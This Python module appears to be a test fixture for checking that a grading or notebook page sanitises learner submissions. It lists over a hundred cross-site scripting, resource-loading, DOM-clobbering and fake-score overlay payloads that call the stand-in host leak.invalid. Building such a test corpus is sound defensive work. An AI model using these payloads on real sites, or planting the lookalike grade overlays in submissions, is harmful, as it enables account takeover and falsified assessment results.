"""What a learner could write to have it run, load something, or cover something on a page of ours.

Each payload names itself where there is a §: by what it pushes to `window.owned`, or by what it
asks `leak.invalid` for.
"""

import base64
import json
from typing import Any

MINE = "(window.owned = window.owned || []).push('§')"
LEAK = "http://leak.invalid/§"
OVER = "position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999;background:red"
PAYLOADS = {
    "script": f"<script>{MINE}</script>",
    "script-src": f'<script src="{LEAK}.js"></script>',
    "script-module": f'<script type="module">import "{LEAK}.js"; {MINE}</script>',
    "script-case": f"<ScRiPt >{MINE}</sCrIpT>",
    "script-nested": f"<scr<script>ipt>{MINE}</scr</script>ipt>",
    "script-cut": f"<script>{MINE}//",
    "script-null": f"<scri\0pt>{MINE}</script>",
    "script-in-comment": f"<!--><script>{MINE}</script>-->",
    "script-in-cdata": f"<![CDATA[><script>{MINE}</script>]]>",
    "script-in-textarea": f"</textarea><script>{MINE}</script>",
    "script-in-title": f"</title><script>{MINE}</script>",
    "script-in-noscript": f'<noscript><p title="</noscript><img src=x onerror={MINE!r}>">',
    "script-in-template": f"<template><script>{MINE}</script></template>",
    "script-in-xmp": f"<xmp></xmp><script>{MINE}</script>",
    "script-in-listing": f"</pre></div></section><script>{MINE}</script>",
    "speculation": '<script type="speculationrules">{"prefetch":[{"urls":["'
    + LEAK
    + '"]}]}</script>',
    "img-onerror": f'<img src=x onerror="{MINE}">',
    "img-onload": f'<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="{MINE}">',
    "img-src": f'<img src="{LEAK}.png">',
    "img-srcset": f'<img srcset="{LEAK}.png 1x">',
    "img-slash": f"<img/src=x/onerror={MINE!r}>",
    "img-backtick": f"<img src=`x` onerror=`{MINE}`>",
    "img-quotes": f'<img alt="\'>" src=x onerror="{MINE}">',
    "img-relative": '<img src="../../../api/me?§">',
    "picture": f'<picture><source srcset="{LEAK}.png"><img></picture>',
    "image": f'<image src=x onerror="{MINE}">',
    "body-onload": f'<body onload="{MINE}">',
    "html-onmouseover": f'<html onmouseover="{MINE}">',
    "onfocus": f'<input autofocus onfocus="{MINE}">',
    "onfocus-tabindex": f'<div tabindex=0 autofocus onfocus="{MINE}">x</div>',
    "onmouseover": f'<p onmouseover="{MINE}">over</p>',
    "onclick": f'<p class="lure" onclick="{MINE}">click</p>',
    "onanimationstart": f'<style>@keyframes k{{}}</style><p style="animation:k 1s" '
    f'onanimationstart="{MINE}">x</p>',
    "ontoggle": f'<details open ontoggle="{MINE}"><summary>x</summary></details>',
    "onbeforetoggle": "<button popovertarget=o>b</button>"
    f'<div id=o popover onbeforetoggle="{MINE}">',
    "marquee": f'<marquee onstart="{MINE}">x</marquee>',
    "video": f'<video src="{LEAK}.mp4" onerror="{MINE}" autoplay></video>',
    "video-poster": f'<video poster="{LEAK}.png"></video>',
    "audio": f'<audio src="{LEAK}.mp3" onerror="{MINE}"></audio>',
    "track": f'<video><track default src="{LEAK}.vtt"><source src=x onerror="{MINE}"></video>',
    "svg-onload": f'<svg onload="{MINE}"></svg>',
    "svg-script": f"<svg><script>{MINE}</script></svg>",
    "svg-script-href": f'<svg><script href="{LEAK}.js"></script></svg>',
    "svg-image": f'<svg><image href="{LEAK}.png"/></svg>',
    "svg-use": f'<svg><use href="{LEAK}.svg#x"/></svg>',
    "svg-use-data": '<svg><use href="data:image/svg+xml,<svg id=x><script>§</script></svg>#x"/>'
    "</svg>",
    "svg-animate": f'<svg><a><animate attributeName=href values="javascript:{MINE}"/>'
    '<text y=20 class="lure">x</text></a></svg>',
    "svg-foreign": f'<svg><foreignObject><iframe srcdoc="<script>parent.{MINE}</script>">'
    "</iframe></foreignObject></svg>",
    "svg-style": f"<svg><style>@import url({LEAK}.css)</style></svg>",
    "svg-mixup": f"<svg></p><style><a id=\"</style><img src=x onerror='{MINE}'>\">",
    "math-mixup": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;"
    f"<img src=x onerror={MINE!r}>'>",
    "math-href": f'<math><maction actiontype="statusline#{LEAK}" xlink:href="javascript:{MINE}">x',
    "iframe-src": f'<iframe src="{LEAK}"></iframe>',
    "iframe-javascript": f'<iframe src="javascript:parent.{MINE}"></iframe>',
    "iframe-srcdoc": f'<iframe srcdoc="<script>parent.{MINE}</script>"></iframe>',
    "iframe-data": '<iframe src="data:text/html,<script>'
    f"top.location='{LEAK}'</script>\"></iframe>",
    "frameset": f'<frameset><frame src="javascript:parent.{MINE}"></frameset>',
    "object": f'<object data="{LEAK}.html"></object>',
    "object-data": f'<object data="data:text/html,<script>parent.{MINE}</script>"></object>',
    "embed": f'<embed src="{LEAK}.swf">',
    "embed-javascript": f'<embed src="javascript:{MINE}">',
    "applet": f'<applet code="x" archive="{LEAK}.jar"></applet>',
    "portal": f'<portal src="{LEAK}"></portal>',
    "link-style": f'<link rel="stylesheet" href="{LEAK}.css">',
    "link-preload": f'<link rel="preload" as="image" href="{LEAK}.png">',
    "link-prefetch": f'<link rel="dns-prefetch" href="{LEAK}">',
    "link-manifest": f'<link rel="manifest" href="{LEAK}.json">',
    "link-import": f'<link rel="import" href="{LEAK}.html">',
    "style": f"<style>body{{background:url({LEAK}.png)}}</style>",
    "style-import": f'<style>@import "{LEAK}.css";</style>',
    "style-font": f"<style>@font-face{{font-family:f;src:url({LEAK}.woff)}}"
    "*{font-family:f!important}</style>",
    "style-hides": "<style>table,h1,nav,.panel-heading{display:none!important}</style>",
    "style-attribute": f'<p style="background:url({LEAK}.png)">x</p>',
    "style-set": f"<p style=\"background:image-set('{LEAK}.png' 1x)\">x</p>",
    "overlay": f'<div style="{OVER}">6 of 6 points</div>',
    "overlay-link": f'<a href="{LEAK}" style="{OVER}">x</a>',
    "overlay-class": '<div class="navbar navbar-fixed-top">6 of 6 points</div>',
    "overlay-modal": '<div class="modal in" style="display:block">6 of 6</div>'
    '<div class="modal-backdrop in">x</div>',
    "overlay-status": '<div class="help" id="statusmessage">x</div>',
    "overlay-dialog": "<dialog open>6 of 6 points</dialog>",
    "lookalike-verdict": '<section class="verdict full"><p><b>double</b>: 4 points</p></section>'
    '<div class="verdict full">4 of 4</div>',
    "lookalike-grade": '<div class="nbgrader_cell"><input class="score" id="check-double" value=6>'
    "</div>",
    "meta-refresh": f'<meta http-equiv="refresh" content="0;url={LEAK}">',
    "meta-csp": '<meta http-equiv="Content-Security-Policy" content="script-src \'none\'">',
    "base": '<base href="http://leak.invalid/§/">',
    "base-target": '<base target="_top">',
    "form": f'<form action="{LEAK}"><button class="lure">x</button></form>',
    "form-javascript": f'<form action="javascript:{MINE}"><button class="lure">x</button></form>',
    "formaction": f'<button class="lure" formaction="javascript:{MINE}">x</button>',
    "isindex": f'<isindex action="javascript:{MINE}">',
    "keygen": f'<keygen autofocus onfocus="{MINE}">',
    "link-javascript": f'<a class="lure" href="javascript:{MINE}">x</a>',
    "link-javascript-case": f'<a class="lure" href=" &#1;JaVa\tScRiPt:{MINE}">x</a>',
    "link-javascript-entity": f'<a class="lure" href="&#106;avascript&colon;{MINE}">x</a>',
    "link-vbscript": '<a class="lure" href="vbscript:§">x</a>',
    "link-data": f'<a class="lure" href="data:text/html,<script>{MINE}</script>">x</a>',
    "link-ping": f'<a href="#" ping="{LEAK}">x</a>',
    "area": f'<map name=m><area href="javascript:{MINE}" coords="0,0,9,9"></map><img usemap="#m">',
    "data-link": f'<span data-link="javascript:{MINE}" data-toggle="tooltip" data-html="true" '
    f"title=\"<img src=x onerror='{MINE}'>\">x</span>",
    "clobbered": '<a id="submission_id">x</a><a id="base_url" href="http://leak.invalid/§">x</a>'
    '<img name="getElementById">',
    "cut-off": '<div title="',
    "cut-off-comment": "<!-- ",
    "unclosed": "<table><tr><td><div><b><i><a href='",
    "closing": "</div></div></div></body></html>",
}
MARKDOWN = {
    "markdown-link": f"[x](javascript:{MINE})",
    "markdown-link-reference": f"[x][y]\n\n[y]: javascript:{MINE}",
    "markdown-autolink": f"<javascript:{MINE}>",
    "markdown-image": f"![x]({LEAK}.png)",
    "markdown-image-onerror": f'![x](x"onerror="{MINE})',
    "markdown-image-reference": f"![x][z]\n\n[z]: {LEAK}.png",
    "markdown-attachment": '![x](attachment:"onerror="alert(1))',
    "markdown-files": f'<img src="files/x" onerror="{MINE}">',
    "markdown-heading": f"# <img src=x onerror='{MINE}'>",
    "markdown-code": f"```html\n<script>{MINE}</script>\n```",
    "markdown-code-language": f'```"><script>{MINE}</script>\nx\n```',
    "markdown-math": f"$$\\href{{javascript:{MINE}}}{{x}} \\style{{{OVER}}}{{x}}$$",
    "markdown-math-html": f"$</script><script>{MINE}</script>$ $$<img src=x onerror='{MINE}'>$$",
    "markdown-mermaid": f'```mermaid\ngraph TD; A-->B; click A "javascript:{MINE}"\n```',
}
BUNDLES: dict[str, dict[str, Any]] = {
    "svg": {"image/svg+xml": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{MINE}">'
            f'<script>{MINE}</script><image href="{LEAK}.png"/></svg>'},
    "javascript": {"application/javascript": MINE},
    "javascript-2": {"text/javascript": MINE, "text/html": "x"},
    "latex": {"text/latex": f"$$</div><script>{MINE}</script>$$ \\href{{javascript:{MINE}}}{{x}}"},
    "png": {"image/png": f'x"><script>{MINE}</script><img src="{LEAK}'},
    "png-bytes": {"image/png": base64.b64encode(f"<script>{MINE}</script>".encode()).decode()},
    "jpeg": {"image/jpeg": f'" onerror="{MINE}'},
    "plain": {"text/plain": f"<script>{MINE}</script>\x1b[31m<img src=x onerror='{MINE}'>"
              f"\x1b]8;;{LEAK}\x07x"},
    "pdf": {"application/pdf": base64.b64encode(b"%PDF-1.7").decode()},
    "mermaid": {"text/vnd.mermaid": f'graph TD; A["<img src=x onerror={MINE!r}>"]'},
    "json": {"application/json": {"a": f"</script><script>{MINE}</script>"}},
    "widget": {"application/vnd.jupyter.widget-view+json": {
        "model_id": f"</script><script>{MINE}</script>", "version_major": 2, "version_minor": 0}},
    "bokeh": {"application/vnd.bokehjs_exec.v0+json": "", "application/javascript": MINE},
    "plotly": {"application/vnd.plotly.v1+json": {"data": [f"<script>{MINE}</script>"]}},
    "own": {f'text/x"><script>{MINE}</script>': f"<script>{MINE}</script>"},
}  # fmt: skip


def named(payload: Any, name: str) -> Any:
    """Return a payload that says which it is."""
    return json.loads(json.dumps(payload).replace("§", name).replace("\\u00a7", name))
